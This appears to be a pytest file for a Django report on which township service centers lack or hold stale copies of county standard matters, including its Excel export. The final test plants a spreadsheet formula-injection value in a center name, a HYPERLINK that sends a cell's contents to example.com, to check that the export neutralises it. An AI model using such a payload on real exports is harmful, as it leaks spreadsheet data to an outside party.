"""The county's report of which townships lack standard matters or keep stale copies."""

import io

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from openpyxl import load_workbook

from content.models import ServiceGuidePage
from tests.builders import client_for, make_user

from .two_centers import adopted, approve, build, change_standard

URL = "/admin/standard-catalog/report/"


@pytest.fixture
def world(db, settings):
    world = build(settings)
    # 东岭 publishes its copy of the subsidy, then the county changes that standard: stale.
    # 东岭 has adopted 低保 but not published it: still missing. 西山 has adopted nothing.
    local = adopted(world, world.subsidy)
    page = ServiceGuidePage.objects.get(pk=local.pk)
    page.get_workflow().start(page, world.dongling.editor)
    approve(page, world.reviewer)
    adopted(world, world.dibao)
    change_standard(world.subsidy, conditions="年满75周岁的本县户籍老年人。")
    return world


def row_of(html, name):
    start = html.index(f'<th scope="row">{name}</th>')
    return html[start : html.index("</tr>", start)]


def test_the_report_lists_each_townships_missing_and_stale_matters(world):
    html = client_for(world.county_staff).get(URL).content.decode()
    dongling, xishan = row_of(html, "东岭镇便民服务中心"), row_of(html, "西山镇便民服务中心")
    assert "BZ-002 最低生活保障申请（已采用，未发布）" in dongling
    assert "BZ-001 高龄津贴申请" in dongling.split("</td>")[-2]  # the stale column
    assert "BZ-001 高龄津贴申请；BZ-002 最低生活保障申请" in xishan


def test_a_township_copy_is_no_longer_stale_once_the_accepted_update_is_approved(world):
    local = ServiceGuidePage.objects.get(standard=world.subsidy)
    editor = client_for(world.dongling.editor)
    editor.post(reverse("standard_catalog_accept", args=[local.pk]))
    assert "BZ-001" in row_of(
        client_for(world.county_staff).get(URL).content.decode(), "东岭镇便民服务中心"
    )
    approve(local, world.reviewer)
    dongling = row_of(
        client_for(world.county_staff).get(URL).content.decode(), "东岭镇便民服务中心"
    )
    assert "BZ-001" not in dongling


def test_a_township_editor_sees_only_their_own_row(world):
    html = client_for(world.dongling.editor).get(URL).content.decode()
    assert "东岭镇便民服务中心" in html
    assert "西山镇便民服务中心" not in html


def test_an_account_without_a_center_sees_no_row(world):
    stray = make_user("stray")
    stray.user_permissions.add(Permission.objects.get(codename="access_admin"))
    html = client_for(stray).get(URL).content.decode()
    assert "没有可查看的中心" in html and "东岭镇" not in html


def test_the_report_exports_to_excel(world):
    response = client_for(world.county_staff).get(URL + "?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert rows["东岭镇便民服务中心"][1:3] == (2, 1)
    assert rows["东岭镇便民服务中心"][5:] == (1, "BZ-001 高龄津贴申请")
    assert rows["西山镇便民服务中心"][2] == 2


def test_a_name_that_looks_like_a_formula_stays_text_in_excel(world):
    center = world.xishan.center
    center.name = '=HYPERLINK("http://example.com/?"&A1)'
    center.save()
    response = client_for(world.county_staff).get(URL + "?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    [cell] = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == center.name]
    assert cell.data_type == "s" and cell.quotePrefix
